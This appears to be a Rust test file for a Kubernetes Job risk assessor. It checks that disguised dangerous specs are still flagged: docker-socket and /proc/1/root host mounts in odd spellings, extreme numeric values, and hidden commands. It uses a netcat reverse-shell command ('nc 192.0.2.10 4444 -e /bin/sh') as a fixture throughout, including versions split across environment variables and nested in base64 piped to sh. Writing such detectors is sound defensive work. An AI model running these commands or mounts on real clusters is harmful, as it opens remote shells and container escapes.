//! Values that are made to be read wrongly: numbers at their ends, paths and commands in odd spellings, text in text in
//! text. No cluster is needed: each is judged as it comes from the API server.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests say what they mean")]

use std::collections::BTreeSet;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use jobrisk::assess::{Assessment, assess};
use jobrisk::severity::Severity;
use jobrisk::workload::Kind;
use jobrisk::workload::decode::from_json;
use serde_json::{Value, json};

/// Opens a shell to somewhere else, which is severity High by itself.
const SHELL: &str = "nc 192.0.2.10 4444 -e /bin/sh";

fn judge(pod: &Value) -> Assessment {
    let job = json!({
        "metadata": { "name": "x", "namespace": "n" },
        "spec": { "template": { "spec": pod } },
    });
    judge_json(&job.to_string())
}

fn judge_json(json: &str) -> Assessment {
    assess(Kind::Job, &from_json(json.as_bytes()).unwrap())
}

/// A container on an image that nothing is found in.
fn container(fields: &Value) -> Value {
    let mut container = json!({ "name": "main", "image": "registry.example.test/team/tool:1.0" });
    for (name, value) in fields.as_object().unwrap() {
        container[name] = value.clone();
    }
    container
}

fn judge_container(fields: &Value) -> Assessment {
    judge(&json!({ "containers": [container(fields)] }))
}

fn judge_script(script: &str) -> Assessment {
    judge_container(&json!({ "command": ["/bin/sh", "-c", script] }))
}

fn rules(assessment: &Assessment) -> BTreeSet<&'static str> {
    assessment.findings.by_rule().map(|(rule, _)| rule.id).collect()
}

#[track_caller]
fn assert_shell(what: &str, assessment: &Assessment) {
    assert!(rules(assessment).contains("cmd-reverse-shell"), "{what}: {:?}", rules(assessment));
    assert!(assessment.score.severity >= Severity::High, "{what}: {}", assessment.score.severity);
}

#[test]
fn d17_a_path_is_what_it_leads_to_however_it_is_spelled() {
    const SOCKET: [&str; 6] = [
        "/var/run/docker.sock",
        "//var//run///docker.sock",
        "/var/run/docker.sock/",
        "/var/./run/../run/docker.sock",
        "/a/b/../../run/docker.sock",
        "/../run/docker.sock",
    ];
    for path in SOCKET {
        let volumes = json!([{ "name": "v", "hostPath": { "path": path } }]);
        let found = rules(&judge(&json!({ "volumes": volumes, "containers": [container(&json!({}))] })));
        assert!(found.contains("hostpath-runtime-socket"), "{path}: {found:?}");
    }
    // Links that the kernel follows to the root of the node.
    for path in ["/proc/1/root", "/proc/1/root/", "/proc//1/./root", "/proc/1/cwd"] {
        let volumes = json!([{ "name": "v", "hostPath": { "path": path } }]);
        let found = rules(&judge(&json!({ "volumes": volumes, "containers": [container(&json!({}))] })));
        assert!(
            found.contains("hostpath-root") && found.contains("evd-disguised-value"),
            "{path}: {found:?}"
        );
    }
}

#[test]
fn d17_a_thousand_volumes_are_all_looked_at() {
    let volume =
        |number: usize, path: &str| json!({ "name": format!("v{number}"), "hostPath": { "path": path } });
    let mut volumes: Vec<Value> =
        (0..1000).map(|number| volume(number, &format!("/srv/./data//{number}/"))).collect();
    let harmless = judge(&json!({ "volumes": volumes, "containers": [container(&json!({}))] }));
    volumes.push(volume(1000, "/srv/../run/containerd/containerd.sock"));
    let last = judge(&json!({ "volumes": volumes, "containers": [container(&json!({}))] }));
    assert!(!rules(&harmless).contains("hostpath-runtime-socket"));
    assert!(rules(&last).contains("hostpath-runtime-socket"), "{:?}", rules(&last));
    assert!(last.score.severity > harmless.score.severity);
}

#[test]
fn d19_a_command_is_what_its_parts_make_together() {
    let env = json!([{ "name": "TO", "value": "192.0.2.10 4444" }, { "name": "SH", "value": "/bin/sh" }]);
    for (what, fields) in [
        ("command and args", json!({ "command": ["/bin/sh"], "args": ["-c", SHELL] })),
        ("args alone", json!({ "command": ["nc"], "args": ["192.0.2.10", "4444", "-e", "/bin/sh"] })),
        (
            "variables that the kubelet puts in",
            json!({ "command": ["$(SH)", "-c", "nc $(TO) -e $(SH)"], "env": env }),
        ),
        (
            "a variable that the shell puts in",
            json!({ "command": ["/bin/sh", "-c", "nc $TO -e ${SH}"], "env": env }),
        ),
        (
            "a script that is a variable",
            json!({ "command": ["/bin/sh", "-c", "eval \"$RUN\""], "env": [{ "name": "RUN", "value": SHELL }] }),
        ),
    ] {
        assert_shell(what, &judge_container(&fields));
    }
}

#[test]
fn d19_what_stands_elsewhere_is_not_seen() {
    // Said in the limits: ConfigMaps are not read. What can be seen is that something unknown is run.
    let from = json!({ "configMapKeyRef": { "name": "settings", "key": "run" } });
    let env = json!([{ "name": "RUN", "valueFrom": from }]);
    let found = rules(&judge_container(&json!({ "command": ["/bin/sh", "-c", "$(RUN)"], "env": env })));
    assert!(!found.contains("cmd-reverse-shell"), "{found:?}");
}

#[test]
fn d20_numbers_at_their_ends_hide_nothing() {
    // Not 1e400: the types of an API server hold no such number, and neither does a 64-bit float.
    const NUMBERS: [&str; 10] = [
        "9223372036854775807",
        "-9223372036854775808",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "1e-400",
        "-0",
        "0.1",
        "1e3",
        "99999999999999999999999999999999999999999999999999",
    ];
    for number in NUMBERS {
        let job = format!(
            r#"{{"metadata": {{"name": "x", "namespace": "n", "generation": {number}}},
            "spec": {{"activeDeadlineSeconds": {number}, "backoffLimit": {number}, "completions": {number},
              "parallelism": {number}, "ttlSecondsAfterFinished": {number},
              "template": {{"spec": {{"terminationGracePeriodSeconds": {number}, "priority": {number},
                "securityContext": {{"runAsUser": {number}, "fsGroup": {number}}},
                "containers": [{{"name": "main", "image": "registry.example.test/team/tool:1.0",
                  "command": ["/bin/sh", "-c", "{SHELL}"],
                  "resources": {{"limits": {{"cpu": "1{}", "memory": {number}}}}},
                  "securityContext": {{"runAsUser": {number}}},
                  "ports": [{{"containerPort": {number}, "hostPort": {number}}}]}}]}}}}}}}}"#,
            "0".repeat(400)
        );
        assert_shell(number, &judge_json(&job));
    }
}

#[test]
fn d22_a_text_that_is_hard_to_match_is_read_to_the_limit_and_says_so() {
    let long = 1_500_000;
    for unit in ["a", " ", "=", "-", "$(", "a ", "../", "password=", "http://", "|sh "] {
        let text = unit.repeat(long / unit.len());
        assert_shell(
            unit,
            &judge(&json!({ "containers": [
            container(&json!({ "command": ["/bin/echo", text] })),
            container(&json!({ "name": "other", "command": ["/bin/sh", "-c", SHELL] })),
        ] })),
        );
    }
}

#[test]
fn d23_text_in_text_in_text_is_unpacked_so_far_and_no_further() {
    let mut script = SHELL.to_owned();
    let mut seen = Vec::new();
    for depth in 0..=10 {
        let assessment = judge_script(&script);
        assert!(assessment.score.severity >= Severity::High, "{depth}: {:?}", rules(&assessment));
        seen.push(rules(&assessment).contains("cmd-reverse-shell"));
        script = format!("echo {} | base64 -d | sh", BASE64_STANDARD.encode(&script));
    }
    // Once it is not looked into any more, it is so at every greater depth; and that something is hidden is said at each.
    assert!(seen[..=3].iter().all(|seen| *seen), "{seen:?}");
    assert!(seen.is_sorted_by(|a, b| a >= b), "{seen:?}");
}

#[test]
fn d23_a_bomb_is_not_unpacked() {
    let bomb = format!("{SHELL}; echo {} | base64 -d | sh", BASE64_STANDARD.encode("a".repeat(900_000)));
    assert_shell("bomb", &judge_container(&json!({ "command": ["/bin/sh", "-c", bomb] })));
}

#[test]
fn d24_only_what_the_node_would_run_is_the_command() {
    // The kernel runs what is called so, byte for byte: a look-alike is another program, and most likely none.
    for script in ["\u{ff4e}\u{ff43} 192.0.2.10 4444 -e /bin/sh", "n\u{200b}c 192.0.2.10 4444 -e /bin/sh"] {
        let found = rules(&judge_script(script));
        assert!(!found.contains("cmd-reverse-shell"), "{script:?}: {found:?}");
    }
    // What only the reader's eye is deceived by does not deceive.
    for behind in ["\u{202e}", "\u{2066}", "\u{200b}", "\u{feff}", "\u{fffd}"] {
        assert_shell(behind, &judge_script(&format!("{SHELL} # {behind} harmless")));
    }
}
